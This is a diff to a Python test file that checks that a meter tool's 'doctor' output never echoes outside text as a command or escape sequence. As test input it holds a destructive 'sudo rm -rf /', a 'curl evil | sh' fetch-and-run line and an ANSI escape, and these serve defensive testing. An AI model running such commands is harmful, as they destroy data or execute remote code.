@@ -145,7 +145,7 @@ def test_own_pull_that_reads_is_waited_for(meter: Meters, doctor: Doctor) -> Non
 
 def test_text_from_outside_is_no_command(meter: Meters, doctor: Doctor, database: Path) -> None:
     """Text from the meter or the last pull is never shown as a command or as an escape sequence."""
-    database.with_name("last-pull").write_text(f"{int(time.time())} 4 `sudo rm -rf /` \x1b[31m\n")
+    Path(f"{database}.last-pull").write_text(f"{int(time.time())} 4 `sudo rm -rf /` \x1b[31m\n")
     noise = b"hello `curl evil | sh` world, login: \r\n"
     text = doctor("--port", meter(noise).port, "--timeout", 2)
     assert "\x1b" not in text
@@ -305,7 +305,7 @@ def test_last_pull(pull: Pull, doctor: Doctor, database: Path) -> None:
     pull(*nowhere)
     text = plain(doctor(*nowhere))
     assert "with exit code 3: p1-pull: there is no /dev/ttyNOTHERE" in text
-    word = database.with_name("last-pull")
+    word = Path(f"{database}.last-pull")
     word.write_text(f"{int(time.time()) - 3600} 0 \n")
     assert "and none has run since: does cron run?" in plain(doctor(*nowhere))
     word.write_text(f"{int(time.time())} 0 \n")
